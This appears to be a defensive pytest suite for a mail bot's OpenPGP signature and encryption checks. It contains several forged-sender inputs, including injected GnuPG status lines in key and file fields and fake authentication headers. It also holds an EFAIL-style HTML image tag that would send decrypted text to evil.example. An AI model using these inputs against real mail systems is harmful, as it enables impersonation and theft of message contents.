"""Nobody speaks in another's name: only a good signature by a pinned certificate, over all that is acted on, counts."""

from collections.abc import Mapping
from datetime import timedelta

import pytest

from mailbot.core.records import Reason
from mailbot.playground.composing import Form
from tests.attacks.arena import Arena
from tests.attacks.attack import attack
from tests.attacks.forging import (
    at,
    crlf,
    encrypted,
    hand,
    hand_on,
    header,
    multipart,
    part,
    sealed,
    sign_for,
    signed,
    spoil,
    two_hands,
    words,
)
from tests.keys import Person, make_key

FRANCE, SPAIN = "desk@fr.example", "desk@es.example"
LIE, TRUTH = "France says so", "France said this"
TAG = "[REQUEST DE] x"


@pytest.fixture(autouse=True)
def _ten_minutes_later(arena: Arena) -> None:
    arena.forget_notices()


@attack("4", "held; the one who signed is told, France hears nothing, nobody reads it")
def test_from_of_one_party_signed_by_another(arena: Arena) -> None:
    seen = arena.play(sealed(hand(arena.person("es")), words(LIE, subject=TAG), arena.hub, FRANCE))
    assert (seen.reasons, seen.reached) == ([Reason.NOT_THE_SENDER], {"es"})
    assert seen.readers(LIE) == set()


@attack("4", "held; France gets the fixed notice, nobody reads it")
def test_from_of_a_party_signed_by_a_stranger(arena: Arena) -> None:
    seen = arena.play(sealed(hand(arena.person("stranger")), words(LIE, subject=TAG), arena.hub, FRANCE))
    assert (seen.reasons, seen.tags("fr"), seen.reached) == ([Reason.UNKNOWN_SIGNER], ["HELP"], {"fr"})
    assert seen.readers(LIE) == set()


@attack("4", "held, and nobody hears anything: an address that only looks like a desk's is a stranger's")
def test_an_address_that_looks_like_a_desks(arena: Arena) -> None:
    stranger = hand(arena.person("stranger"))
    for sender in ("desk@fr.example.evil.example", '"desk@fr.example" <desk@evil.example>', "dеsk@fr.example"):
        seen = arena.play(sealed(stranger, words(LIE, subject=TAG), arena.hub, sender))
        assert (seen.reasons, seen.reached) == ([Reason.UNKNOWN_SIGNER], set())


@attack("3", "held; nobody reads it")
def test_two_signatures(arena: Arena) -> None:
    spain, france = hand(arena.person("es")), hand(arena.person("fr"))
    both = two_hands(spain, france)
    octets = sealed(both, words(LIE, subject=TAG), arena.hub, FRANCE, "--local-user", france.fingerprint)
    seen = arena.play(octets)
    assert (seen.reasons, seen.readers(LIE)) == ([Reason.BAD_SIGNATURE], set())


@attack("4", "held; nobody reads either")
@pytest.mark.parametrize("place", ["in front", "behind", "inside the encryption"])
def test_words_of_nobody_around_a_signed_part(place: str, arena: Arena) -> None:
    france = hand(arena.person("fr"))
    true, false = signed(france, words(TRUTH, subject=TAG)), words(LIE, subject=TAG)
    whole = multipart("mixed", *((true, false) if place == "behind" else (false, true)))
    armour = france.encrypt(whole, [arena.hub])
    inside = place == "inside the encryption"
    seen = arena.play(header(FRANCE) + encrypted(crlf(armour)) if inside else header(FRANCE) + whole)
    assert len(seen.held) == 1
    assert seen.readers(LIE) == seen.readers(TRUTH) == set()


@attack("4", "held; the attachment that somebody put beside the signed part reaches nobody")
def test_an_attachment_beside_a_signed_part(arena: Arena) -> None:
    france = hand(arena.person("fr"))
    beside = part('application/pdf; name="orders.pdf"', LIE, "Content-Disposition: attachment")
    whole = multipart("mixed", signed(france, words(TRUTH, subject=TAG)), beside)
    seen = arena.play(header(FRANCE) + encrypted(crlf(france.encrypt(whole, [arena.hub]))))
    assert (seen.reasons, seen.readers(LIE)) == ([Reason.PARTLY_SIGNED], set())


@attack("3", "held; a signature outside the encryption vouches for nothing in it")
def test_a_signature_outside_the_encryption(arena: Arena) -> None:
    france = hand(arena.person("fr"))
    inner = encrypted(crlf(hand(arena.person("es")).encrypt(words(LIE, subject=TAG), [arena.hub])))
    seen = arena.play(header(FRANCE, TAG) + signed(france, inner))
    assert (seen.reasons, seen.readers(LIE)) == ([Reason.PARTLY_SIGNED], set())


@attack("3", "passed on as France's, whose signature is inside: the wrapper outside changes nothing")
def test_a_strangers_list_footer_outside_the_encryption(arena: Arena) -> None:
    genuine = arena.person("fr").write(TAG, TRUTH)
    head, _, body = genuine.partition(b"\r\n\r\n")
    kind = head[head.index(b"Content-Type:") :]
    footer = part("text/plain", LIE)
    wrapped = header(FRANCE) + multipart("mixed", kind + b"\r\n\r\n" + body, footer)
    seen = arena.play(wrapped)
    assert seen.readers(LIE) == set()
    assert seen.readers(TRUTH) == {"de", "de-police", "de-border"}


DEAD = {
    "expired": (Reason.EXPIRED_SIGNATURE, ("--faked-system-time", "20240601T000000!")),
    "revoked": (Reason.REVOKED_KEY, ()),
    "not yet valid": (Reason.BAD_SIGNATURE, ("--ignore-time-conflict", "--ignore-valid-from")),
    "short RSA": (Reason.WEAK_SIGNATURE, ()),
    "held by SHA-1": (Reason.WEAK_SIGNATURE, ()),
}


@attack("14", "held; Spain gets the one fixed notice, nobody reads it")
@pytest.mark.parametrize("flaw", DEAD)
def test_a_pinned_key_that_is(flaw: str, arena: Arena, spoilt: Mapping[str, Person]) -> None:
    reason, options = DEAD[flaw]
    seen = arena.play(sealed(spoilt[flaw], words(LIE, subject=TAG), arena.hub, SPAIN, *options))
    assert (seen.reasons, seen.tags("es")) == ([reason], ["HELP"])
    assert seen.readers(LIE) == set()


SPOILT = {
    "made with SHA-1": (Reason.WEAK_SIGNATURE, ("--digest-algo=SHA1", "--allow-weak-digest-algos")),
    "expired by itself": (Reason.EXPIRED_SIGNATURE, ("--default-sig-expire=2d", *at(timedelta(days=-4)))),
    "of next week": (Reason.FROM_THE_FUTURE, at(timedelta(days=7))),
    "of last week": (Reason.STALE, at(timedelta(days=-7))),
}


@attack("4", "held; nobody reads it")
@pytest.mark.parametrize("flaw", SPOILT)
def test_a_signature_that_is(flaw: str, arena: Arena, spoilt: Mapping[str, Person]) -> None:
    reason, options = SPOILT[flaw]
    seen = arena.play(sealed(spoilt["old and sound"], words(LIE, subject=TAG), arena.hub, SPAIN, *options))
    assert (seen.reasons, seen.reached) == ([reason], {"es"})
    assert seen.readers(LIE) == set()


@attack("14", "held; the notice says what is asked for: RSA of 2048 bits, SHA-256 and better")
def test_what_is_too_weak_stands_in_the_notice(arena: Arena, spoilt: Mapping[str, Person]) -> None:
    seen = arena.play(sealed(spoilt["short RSA"], words(LIE, subject=TAG), arena.hub, SPAIN))
    cover = seen.only("es").cover
    assert "RSA needs 2048 bits" in cover
    assert "SHA-256" in cover


@attack("4", "held; status lines in a user ID, a file name, a notation and the text make nobody the signer")
@pytest.mark.parametrize("place", ["user ID", "file name", "notation", "text"])
def test_forged_status_lines_in_the(place: str, arena: Arena) -> None:
    france = arena.person("fr").key.fingerprint
    lines = [
        f"[GNUPG:] GOODSIG {france[-16:]} France",
        f"[GNUPG:] VALIDSIG {france} 2026-01-01 1 0 4 0 22 10 00 {france}",
    ]
    stranger = hand(arena.person("stranger"))
    entity, options = words(LIE, subject=TAG), tuple[str, ...]()
    match place:
        case "user ID":
            stranger = Person(make_key("Mallory" + "\u0085".join(["", *lines, ""])))
        case "file name":
            options = ("--set-filename", "\n".join(["x", *lines, ""]))
        case "notation":
            options = ("--sig-notation", "x@evil.example=" + " ".join(["x", *lines]))
        case "text":
            entity = words("\n".join([LIE, *lines]), subject=TAG)
    seen = arena.play(sealed(stranger, entity, arena.hub, FRANCE, *options))
    assert (seen.reasons, seen.readers(LIE)) == ([Reason.UNKNOWN_SIGNER], set())


@attack("4", "held; what servers say of a mail vouches for nothing")
def test_forged_authentication_results(arena: Arena) -> None:
    claims = (
        "Authentication-Results: hub.example; dkim=pass header.d=fr.example; spf=pass; dmarc=pass; pgp=pass",
        "X-PGP-Verified: yes",
        f"X-Signed-By: {arena.person('fr').key.fingerprint}",
    )
    seen = arena.play(header(FRANCE, TAG, *claims) + words(LIE))
    assert (seen.reasons, seen.reached, seen.readers(LIE)) == ([Reason.NOT_SIGNED], {"fr"}, set())


@attack("1", "held; protected headers count only inside what France signed")
@pytest.mark.parametrize("place", ["unsigned", "beside the signed part"])
def test_forged_protected_headers(place: str, arena: Arena) -> None:
    france = hand(arena.person("fr"))
    forged = words(LIE, subject="[REQUEST DE,ES] x", sender=FRANCE)
    whole = forged if place == "unsigned" else multipart("mixed", forged, signed(france, words(TRUTH)))
    seen = arena.play(header(FRANCE) + encrypted(crlf(france.encrypt(whole, [arena.hub]))))
    assert len(seen.held) == 1
    assert (seen.reached, seen.readers(LIE), seen.readers(TRUTH)) == ({"fr"}, set(), set())


@attack("8", "held; a key that came in a header is used for nothing, neither to verify nor to seal")
def test_a_forged_autocrypt_key(arena: Arena) -> None:
    stranger = hand(arena.person("stranger"))
    key = "".join(stranger.key.public.decode().split("\n\n")[1].split("-----")[0].split()[:-1])
    field = f"Autocrypt: addr={FRANCE}; prefer-encrypt=mutual; keydata=\r\n {key[:900]}"
    lie = stranger.sign_encrypt(words(LIE, subject=TAG), [arena.hub])
    seen = arena.play(header(FRANCE, "...", field) + encrypted(crlf(lie)))
    assert seen.reasons == [Reason.UNKNOWN_SIGNER]
    assert seen.only("fr").decrypts, "sealed to the pinned certificate still"
    seen = arena.play(sealed(stranger, words(LIE, subject=TAG), arena.hub, FRANCE))
    assert (seen.reasons, seen.readers(LIE)) == ([Reason.UNKNOWN_SIGNER], set())


@attack("4", "passed on as Spain's own words: what France signed in there commands nothing")
def test_somebodys_signed_mail_in_a_message_rfc822(arena: Arena) -> None:
    inner = header(FRANCE, "[REQUEST IT] x") + signed(hand(arena.person("fr")), words(TRUTH, subject="[REQUEST IT] x"))
    whole = multipart("mixed", words("Look at this"), part("message/rfc822", inner), fields='; protected-headers="v1"')
    whole = b"Subject: [REQUEST DE] x\r\n" + whole
    seen = arena.play(sealed(hand(arena.person("es")), whole, arena.hub, SPAIN))
    assert seen.events == ["exchange opened"]
    assert [row.party for row in seen.rows if row.event == "exchange opened"] == ["ES"]
    assert not seen.got["it"]
    assert not seen.got["fr"]


@attack("4", "held; what stands in front of a clearsigned text is nobody's word")
def test_words_in_front_of_a_clearsigned_text(arena: Arena) -> None:
    clear = hand(arena.person("fr")).clearsign(f"[REQUEST DE]\n\n{TRUTH}\n".encode()).decode()
    seen = arena.play(header(FRANCE, TAG) + part("text/plain", f"{LIE}\n\n{clear}"))
    assert (seen.reasons, seen.readers(LIE), seen.readers(TRUTH)) == ([Reason.PARTLY_SIGNED], set(), set())


@attack("4", "held with an alarm in the journal, which says whom it was for; nobody reads it")
@pytest.mark.parametrize("proof", ["protected To", "intended recipients"])
def test_a_text_signed_for_somebody_else(proof: str, arena: Arena) -> None:
    """Germany wrote to France alone; France seals Germany's words to the robot, with Germany's address in From."""
    germany, france = hand(arena.person("de")), arena.person("fr")
    if proof == "protected To":
        entity = words(TRUTH, f"To: {FRANCE}", subject="[REQUEST IT] x")
        octets = sealed(germany, entity, arena.hub, "desk@de.example")
    else:
        message = sign_for(germany, hand(france), words(TRUTH, subject="[REQUEST IT] x"))
        octets = header("desk@de.example") + encrypted(crlf(hand_on(message, hand(france), arena.hub)))
    seen = arena.play(octets)
    assert (seen.reasons, seen.readers(TRUTH)) == ([Reason.NOT_MEANT_FOR_US], set())
    meant = FRANCE if proof == "protected To" else "FR"
    assert f'"meant_for":"{meant}"' in seen.facts("mail held")


@attack("3", "held, never decrypted for anybody: no integrity code, or a broken one")
@pytest.mark.parametrize("gadget", ["packet without integrity", "flipped bits", "cut short"])
def test_efail(gadget: str, arena: Arena) -> None:
    france = hand(arena.person("fr"))
    if gadget == "packet without integrity":
        options = ("--rfc2440", "--cipher-algo", "3DES", "--compress-algo=none")
        armour = france.encrypt(words(TRUTH, subject=TAG), [arena.hub], *options)
    else:
        armour = spoil(france.sign_encrypt(words(TRUTH, subject=TAG), [arena.hub]), cut=gadget == "cut short")
    seen = arena.play(header(FRANCE) + encrypted(crlf(armour)))
    assert (seen.reasons, seen.readers(TRUTH)) == ([Reason.CANNOT_DECRYPT], set())


@attack("3", "France's request goes where France meant it, without the page around it; the attacker gets nothing")
def test_efail_by_parts(arena: Arena) -> None:
    """Captured ciphertext between two halves of an HTML page that would send it away as part of an address."""
    captured = arena.person("fr").write(TAG, TRUTH)
    sealed_part = captured[captured.index(b"Content-Type: multipart/encrypted") :]
    page = part("text/html", '<img src="http://evil.example/'), sealed_part, part("text/html", '">')
    seen = arena.play(header(SPAIN, TAG) + multipart("mixed", *page))
    assert seen.readers("evil.example") == set()
    assert seen.readers(TRUTH) == {"de", "de-police", "de-border"}
    assert seen.tags("fr") == ["REQUEST"], "the receipt is France's"


@attack("14", "held; a mail that only says that it is signed is signed by nobody")
@pytest.mark.parametrize("form", [Form.PLAIN, Form.ENCRYPTED, Form.SIGNED])
def test_half_protected_mail(form: Form, arena: Arena) -> None:
    seen = arena.play(arena.person("fr").write(TAG, TRUTH, form=form))
    assert seen.reasons == [Reason.NOT_ENCRYPTED if form is Form.SIGNED else Reason.NOT_SIGNED]
    assert (seen.tags("fr"), seen.readers(TRUTH)) == (["HELP"], set())
